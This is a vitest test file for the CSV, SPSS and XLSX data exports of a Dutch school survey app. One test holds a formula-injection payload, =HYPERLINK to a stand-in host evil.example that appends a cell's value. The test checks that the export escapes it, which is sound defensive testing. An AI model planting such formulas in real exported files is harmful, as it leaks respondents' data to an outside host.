import readXlsxFile from 'read-excel-file/node';
import { afterEach, describe, expect, it } from 'vitest';
import { parseCsv } from '../../src/domain/export/csv';
import { spssNames } from '../../src/domain/export/spss';
import { surveyVariables } from '../../src/domain/export/variables';
import type { ResponseRecord } from '../../src/domain/response';
import type { LocalizedText } from '../../src/domain/survey-schema';
import { KringDb } from '../../src/storage/db';
import { studyData, studyFiles, WIDE_CSV } from '../../src/state/data-export';
import { createSession } from '../../src/state/sessions';
import { allTypes, studyJson } from '../fixtures/surveys';

const text = (t: LocalizedText | undefined) => t?.nl ?? '';
let n = 0;
const dbs: KringDb[] = [];
afterEach(() => dbs.splice(0).forEach((db) => db.close()));

const survey = allTypes();
const answersA = {
  'prof.role': 'teacher',
  'prof.school': 'b',
  'matrix.r1': 1,
  'matrix.r2': 5,
  rank: ['z', 'x', 'y'],
  'lik.st1': 9,
  'lik.st2': 2,
  open: 'Ja, "zeker"',
  single: 'other',
  'single.other': 'Iets, met komma',
  multi: ['a', 'c'],
  num: 7,
};
const answersB = { 'prof.role': 'pupil', 'prof.school': 'a', single: 'b', 'lik.st1': 1 };

async function laptop(
  definition = JSON.stringify(allTypes()),
  first: Record<string, unknown> = answersA,
) {
  const db = new KringDb(`export-${++n}`);
  dbs.push(db);
  const session = await createSession(db, { definition, title: 'T', school: 'De Klimop' });
  const put = (i: number, answers: Record<string, unknown>, status: ResponseRecord['status']) => {
    const response = {
      id: `r${i}`.padEnd(21, 'x'),
      surveyId: survey.id,
      surveyVersion: survey.version,
      status,
      language: 'nl',
      startedAt: 1000 + i,
      updatedAt: 2000,
      ...(status === 'submitted' ? { submittedAt: 3000 } : {}),
      answers,
    } as ResponseRecord;
    return db.collected.put({
      key: `d${i}/${response.id}`,
      sessionId: session.id,
      deviceId: `d${i}`,
      responseId: response.id,
      status: 'valid',
      response,
      receivedAt: 1,
    });
  };
  await put(1, first, 'submitted');
  await put(2, answersB, 'in-progress');
  return { db, session };
}

describe('data exports', () => {
  it('the wide CSV parses back to the same values, codes and all', async () => {
    const { db, session } = await laptop();
    const result = await studyData(db, [session.id], text);
    if (!result.ok) throw new Error(result.reason);
    const files = await studyFiles(result.data, true);
    const rows = parseCsv(await files.get(WIDE_CSV)!.text());
    const header = rows[0]!;
    const first = Object.fromEntries(header.map((name, i) => [name, rows[1]![i]]));
    expect(first).toMatchObject({
      response_id: 'r1'.padEnd(21, 'x'),
      session_school: 'De Klimop',
      status: 'submitted',
      'prof.role': '1', // teacher is the first role
      'prof.school': 'b',
      'matrix.r1': '1',
      'matrix.r2': '5',
      'rank.x': '2',
      'rank.y': '3',
      'rank.z': '1',
      'lik.st1': '9',
      single: '3', // "other" is coded after the two options
      'single.other': 'Iets, met komma',
      'multi.a': '1',
      'multi.b': '0',
      'multi.c': '1',
      open: 'Ja, "zeker"',
      num: '7',
    });
    const second = Object.fromEntries(header.map((name, i) => [name, rows[2]![i]]));
    expect(second).toMatchObject({ 'prof.role': '2', single: '2', 'matrix.r1': '', 'multi.a': '' });
    expect(rows).toHaveLength(3);
  });

  it('the long CSV has one row per answered variable', async () => {
    const { db, session } = await laptop();
    const result = await studyData(db, [session.id], text, { submittedOnly: true });
    if (!result.ok) throw new Error(result.reason);
    expect(result.data.long.rows.every((row) => row[0] === 'r1'.padEnd(21, 'x'))).toBe(true);
    expect(result.data.long.rows.find((row) => row[2] === 'lik.st1')?.[3]).toBe(9);
  });

  it('the SPSS syntax declares every variable, its label, value labels and "no opinion" as missing', async () => {
    const { db, session } = await laptop();
    const result = await studyData(db, [session.id], text);
    if (!result.ok) throw new Error(result.reason);
    const sps = result.data.sps;
    const variables = surveyVariables(survey, text);
    const block = (start: string) =>
      sps.slice(sps.indexOf(start), sps.indexOf('.\n', sps.indexOf(start)));
    const formats = block('/VARIABLES=');
    const labels = block('VARIABLE LABELS');
    for (const v of variables) {
      expect(formats).toMatch(
        new RegExp(
          `\\n    ${v.name.replace('.', '\\.')} ${v.type === 'numeric' ? 'F8\\.0' : 'A\\d+'}`,
        ),
      );
      expect(labels).toContain(`${v.name} '${v.label.replace(/'/g, "''")}'`);
    }
    expect(sps).toContain("  lik.st1\n    1 'eens'\n    2 'oneens'\n    9 'geen mening'");
    expect(sps).toContain('MISSING VALUES lik.st1 (9).');
    expect(sps).toContain('MISSING VALUES lik.st2 (9).');
    expect(sps).toContain("/FILE='kring-data.csv'");
    expect(sps.trim().endsWith('EXECUTE.')).toBe(true);
  });

  it('keeps SPSS names within 64 characters and unique', () => {
    const long = 'a'.repeat(40) + '.' + 'b'.repeat(40);
    const names = spssNames([long, `${long}x`, 'kort']);
    expect(names.every((name) => name.length <= 64)).toBe(true);
    expect(new Set(names).size).toBe(3);
    expect(names[2]).toBe('kort');
  });

  it('the XLSX has a data sheet and a codebook sheet with the same cells', async () => {
    const { db, session } = await laptop();
    const result = await studyData(db, [session.id], text);
    if (!result.ok) throw new Error(result.reason);
    const xlsx = (await studyFiles(result.data, false)).get('kring-data.xlsx')!;
    const sheets = await readXlsxFile(Buffer.from(await xlsx.arrayBuffer()));
    expect(sheets.map((s) => s.sheet)).toEqual(['data', 'codebook']);
    const data = sheets[0]!.data;
    expect(data[0]).toEqual(result.data.wide.header);
    const single = result.data.wide.header.indexOf('single');
    expect(data[1]![single]).toBe(3);
    expect(sheets[1]!.data[0]).toEqual(['variable', 'label', 'type', 'values', 'missing']);
  });

  it('a typed formula is text in the CSVs and the XLSX, and numbers stay numbers', async () => {
    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")';
    const { db, session } = await laptop(JSON.stringify(allTypes()), {
      ...answersA,
      open: hostile,
      'single.other': '+32 470 12 34 56',
    });
    const result = await studyData(db, [session.id], text);
    if (!result.ok) throw new Error(result.reason);
    const files = await studyFiles(result.data, true);

    const rows = parseCsv(await files.get(WIDE_CSV)!.text());
    const first = Object.fromEntries(rows[0]!.map((name, i) => [name, rows[1]![i]]));
    expect(first['open']).toBe(`'${hostile}`);
    expect(first['single.other']).toBe("'+32 470 12 34 56");
    expect(first['matrix.r2']).toBe('5');
    const long = parseCsv(await files.get('kring-data-long.csv')!.text());
    expect(long.find((r) => r[2] === 'open')?.[3]).toBe(`'${hostile}`);

    const xlsx = files.get('kring-data.xlsx')!;
    const [data] = await readXlsxFile(Buffer.from(await xlsx.arrayBuffer()));
    const header = data!.data[0] as string[];
    const cells = data!.data[1]!;
    expect(cells[header.indexOf('open')]).toBe(`'${hostile}`);
    expect(cells[header.indexOf('matrix.r2')]).toBe(5); // a number cell, not text
    expect(cells[header.indexOf('survey_version')]).toBe(2);
  });

  it('refuses to put sessions of different questionnaires in one table', async () => {
    const a = await laptop();
    const other = await createSession(a.db, {
      definition: JSON.stringify(studyJson()),
      title: 'S',
      school: 'X',
    });
    expect(await studyData(a.db, [a.session.id, other.id], text)).toEqual({
      ok: false,
      reason: 'differentSurveys',
    });
  });
});
